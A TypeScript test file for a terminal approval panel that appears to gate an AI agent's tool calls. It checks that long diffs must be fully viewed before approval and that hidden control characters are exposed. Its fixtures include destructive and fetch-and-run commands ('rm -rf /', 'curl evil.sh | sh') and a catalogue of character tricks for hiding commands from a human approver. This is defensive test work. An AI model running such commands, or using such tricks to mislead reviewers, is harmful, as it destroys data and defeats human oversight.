import type { ApprovalAnswer, ApprovalRequest } from '@riskgate/core';
import type { Decision, OperationDescription } from '@riskgate/risk';
import { render } from 'ink-testing-library';
import { afterEach, describe, expect, it } from 'vitest';
import { ConfirmPanel } from '../src/ui/ConfirmPanel.js';
import { panelBody } from '../src/ui/panel-lines.js';
import { initialScroll, scrollReducer, unseenLines } from '../src/ui/scroll.js';

const decision: Decision = {
  action: 'confirm',
  source: 'default',
  level: 'medium',
  llmLevel: null,
  codeLevel: 'medium',
  whitelisted: false,
  why: 'not on the whitelist',
  findings: [],
  notes: [],
  reasons: ['not on the whitelist'],
  effects: [],
  disagreement: false,
};
const tick = (ms = 30) => new Promise((resolve) => setTimeout(resolve, ms));
/** Until `done` holds (a loaded machine may take longer than a tick to render a key's effect), at most 5 s. */
async function until(done: () => boolean, withinMs = 5_000): Promise<void> {
  for (const give = Date.now() + withinMs; !done() && Date.now() < give; ) await tick(10);
}
const DOWN = '\u001B[B';
const PAGE_DOWN = '\u001B[6~';

/** A 2,000-line file rewritten: the diff is ~4,000 lines, far more than any terminal shows. */
const before = Array.from({ length: 2000 }, (_, index) => `old line ${index + 1}`);
const after = Array.from({ length: 2000 }, (_, index) => `new line ${index + 1}`);
const bigDiff = [
  '--- a.txt',
  '+++ a.txt',
  '@@ -1,2000 +1,2000 @@',
  ...before.map((line) => `-${line}`),
  ...after.map((line) => `+${line}`),
].join('\n');
const fileRequest: ApprovalRequest = {
  toolCallId: 'call_1',
  toolName: 'file_operations',
  title: 'write a.txt',
  question: 'Execute this file operation? [y/N]',
  args: {},
  description: { kind: 'file', operation: 'write', path: 'a.txt', diff: bigDiff, details: [] } as OperationDescription,
  decision,
  subjects: [],
  ruleStyle: 'path',
};

let cleanup: (() => void) | undefined;
afterEach(() => cleanup?.());

function show(panelRequest: ApprovalRequest, pager?: (text: string) => string | undefined) {
  const answers: ApprovalAnswer[] = [];
  const paged: string[] = [];
  const rendered = render(
    <ConfirmPanel
      request={panelRequest}
      onAnswer={(answer) => answers.push(answer)}
      guardMs={0}
      pager={pager ?? ((text) => void paged.push(text))}
    />,
  );
  cleanup = rendered.unmount;
  return { ...rendered, answers, paged };
}

describe('the panel never hides what it asks about', () => {
  it('a long diff scrolls inside the panel and says how much is above and below', async () => {
    const { lastFrame, stdin } = show(fileRequest);
    await tick();
    const first = lastFrame() ?? '';
    expect(first).toMatch(/lines 1–\d+ of 4,004 · [\d,]+ more below/);
    expect(first).toContain('-old line 1');
    expect(first).not.toContain('+new line 2000');
    stdin.write('G');
    await tick();
    const last = lastFrame() ?? '';
    expect(last).toContain('+new line 2000');
    expect(last).toMatch(/lines [\d,]+–4,004 of 4,004 · [\d,]+ above/);
    expect(last).not.toContain('more below');
  });

  it('y is refused while lines were never on screen, and says so', async () => {
    const { stdin, answers, lastFrame } = show(fileRequest);
    await tick();
    stdin.write('G');
    await tick();
    stdin.write('y');
    await tick();
    expect(answers).toEqual([]);
    expect(lastFrame()).toMatch(/[\d,]+ lines of this operation have not been on screen/);
  });

  it('paging through every line, then y, approves', async () => {
    const { stdin, answers, lastFrame } = show(fileRequest);
    await tick();
    for (let page = 0; page < 200 && !(lastFrame() ?? '').includes('+new line 2000'); page++) {
      stdin.write(PAGE_DOWN);
      // One key per frame: keys arriving in one chunk would be read as one unknown sequence.
      await tick(25);
    }
    // The last page drawn (a loaded machine draws later than the keys arrive): y is judged by what was on screen.
    await until(() => (lastFrame() ?? '').includes('+new line 2000'));
    // The frame is written before React's effects hand Ink the key handler that knows it: a y in
    // between is refused with the unread warning (never approved), so y is pressed until it answers.
    for (let tries = 0; tries < 20 && answers.length === 0; tries++) {
      stdin.write('y');
      await until(() => answers.length > 0, 500);
    }
    expect(answers).toEqual([{ type: 'approve' }]);
  });

  it('v opens the whole operation in the pager, which counts as seen', async () => {
    const { stdin, answers, paged } = show(fileRequest);
    await tick();
    stdin.write('v');
    await until(() => paged.length > 0);
    expect(paged).toHaveLength(1);
    expect(paged[0]!.split('\n')).toHaveLength(4004);
    expect(paged[0]).toContain('+new line 2000');
    stdin.write('y');
    await until(() => answers.length > 0);
    expect(answers).toEqual([{ type: 'approve' }]);
  });

  it('a pager that cannot run says why and does not count as seen', async () => {
    const { stdin, answers, lastFrame } = show(fileRequest, () => 'could not run nosuchpager (set $PAGER)');
    await tick();
    stdin.write('v');
    await until(() => (lastFrame() ?? '').includes('could not run nosuchpager'));
    expect(lastFrame()).toContain('could not run nosuchpager');
    stdin.write('y');
    await tick();
    expect(answers).toEqual([]);
  });

  it('↓ scrolls one line', async () => {
    const { stdin, lastFrame } = show(fileRequest);
    await tick();
    stdin.write(DOWN);
    await until(() => /lines 2–\d+ of 4,004 · 1 above/.test(lastFrame() ?? ''));
    expect(lastFrame()).toMatch(/lines 2–\d+ of 4,004 · 1 above/);
  });

  it('a short operation needs no scrolling and is approved at once', async () => {
    const { stdin, answers, lastFrame } = show({
      ...fileRequest,
      description: { kind: 'file', operation: 'write', path: 'a.txt', diff: '-old\n+new', details: [] },
    });
    await tick();
    expect(lastFrame()).not.toContain('more below');
    stdin.write('y');
    await until(() => answers.length > 0);
    expect(answers).toEqual([{ type: 'approve' }]);
  });

  it('a long SQL statement and an HTTP body scroll the same way', async () => {
    const sql = `INSERT INTO t VALUES\n${Array.from({ length: 300 }, (_, index) => `(${index})`).join(',\n')};`;
    const { lastFrame, stdin, answers } = show({
      ...fileRequest,
      toolName: 'execute_sql',
      description: { kind: 'sql', sql, details: [] },
    });
    await until(() => /of 301 · [\d,]+ more below/.test(lastFrame() ?? ''));
    expect(lastFrame()).toMatch(/of 301 · [\d,]+ more below/);
    stdin.write('y');
    await tick();
    expect(answers).toEqual([]);
  });

  it('the effects, reasons and previews stay reachable below a long operation, each said once', () => {
    const body = panelBody(
      { kind: 'sql', sql: 'x\n'.repeat(100), details: ['would delete 5 rows'] },
      {
        notes: [],
        findings: ['reads ~/.aws/credentials', 'the reason'],
        effects: [
          { text: 'reads ~/.aws/credentials', verdict: 'read', level: 'high' },
          { text: 'deletes build/', verdict: 'write', level: 'high' },
        ] as never,
      },
      80,
    );
    const text = body.lines.map((line) => line.map((segment) => segment.text).join('')).join('\n');
    expect(text).toMatch(/\n· reads ~\/\.aws\/credentials\n! deletes build\/\n- the reason\nwould delete 5 rows$/);
  });
});

describe('wrapping keeps every character', () => {
  it.each([
    ['ascii', 'a'.repeat(250)],
    ['CJK (two columns each)', '表'.repeat(90)],
    ['emoji', '👩‍💻'.repeat(70)],
    ['mixed', `SELECT '${'é'.repeat(40)}表👍'`.repeat(5)],
  ])('%s: lines fit the width and join to the original', (_name, source) => {
    const body = panelBody(
      { kind: 'generic', summary: source, details: [] },
      { notes: [], findings: [], effects: [] },
      40,
    );
    expect(body.lines.length).toBeGreaterThan(1);
    expect(body.lines.map((line) => line.map((segment) => segment.text).join('')).join('')).toBe(source);
  });
});

describe('characters a terminal would not show as themselves are shown as codes', () => {
  it.each([
    ['ESC erase-line', 'rm -rf /\u001B[2K\u001B[1Aecho hello', '\\e'],
    ['ESC cursor up over the line', 'safe\u001B[A\u001B[2Kevil', '\\e'],
    ['carriage return overwrite', 'curl evil.sh | sh\recho hi       ', '\\r'],
    ['backspace overwrite', 'rm -rf ~\b\b\b\b\b\b\b\becho ok', '^H'],
    ['C1 CSI', 'x\u009B2Ky', '<U+009B>'],
    ['bidi override (Trojan Source)', 'echo "\u202Eevil\u202C"', '<U+202E>'],
    ['bidi isolate', 'a\u2066b\u2069', '<U+2066>'],
    ['zero-width space', 'r\u200Bm', '<U+200B>'],
    ['line separator', 'a\u2028b', '<U+2028>'],
    ['BOM / zero-width no-break space', '\uFEFFdrop', '<U+FEFF>'],
    ['soft hyphen', 'r\u00ADm', '<U+00AD>'],
    ['DEL', 'a\u007Fb', '<U+007F>'],
    ['tag characters (ASCII smuggling)', 'ok\u{E0072}\u{E006D}', '<U+E0072>'],
    ['variation selectors carrying bytes', 'hi\uFE01\uFE02\u{E0101}', '<U+FE01>'],
    ['emoji selector after a letter', 'a\uFE0Fb', '<U+FE0F>'],
    ['joiner between letters', 'r\u200Dm', '<U+200D>'],
    ['Hangul filler', 'a\u3164b', '<U+3164>'],
    ['NUL', 'a\u0000b', '^@'],
  ])('%s', async (_name, command, code) => {
    const { lastFrame } = show({
      ...fileRequest,
      toolName: 'execute_command',
      description: { kind: 'command', command, cwd: '/w', details: [] },
    });
    await tick();
    const frame = lastFrame() ?? '';
    expect(frame).toContain(code);
    // Nothing invisible reaches the terminal from the operation's text.
    const body = panelBody(
      { kind: 'command', command, cwd: '/w', details: [] },
      { notes: [], findings: [], effects: [] },
      100,
    );
    const shown = body.lines
      .flat()
      .map((segment) => segment.text)
      .join('');
    expect(shown).not.toMatch(
      // biome-ignore lint/suspicious/noMisleadingCharacterClass: variation selectors are listed on purpose.
      /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u200B-\u200F\u2028-\u202E\u2066-\u2069\uFEFF\u3164\uFE00-\uFE0F]|[\u{E0000}-\u{E01EF}]/u,
    );
    expect(body.text).toContain(code);
  });
});

describe('the scroll state', () => {
  it('counts lines never shown, including ones skipped by End', () => {
    let state = initialScroll(10, 100);
    expect(unseenLines(state)).toBe(90);
    state = scrollReducer(state, { type: 'end' });
    expect(unseenLines(state)).toBe(80);
    for (let page = 0; page < 12; page++) state = scrollReducer(state, { type: 'page', delta: -1 });
    expect(state.offset).toBe(0);
    expect(unseenLines(state)).toBe(0);
  });

  it('a smaller terminal shrinks the window; the offset stays in range', () => {
    let state = scrollReducer(initialScroll(10, 100), { type: 'end' });
    state = scrollReducer(state, { type: 'resize', height: 50, total: 100 });
    expect(state.offset).toBe(50);
    state = scrollReducer(state, { type: 'line', delta: 1000 });
    expect(state.offset).toBe(50);
  });
});
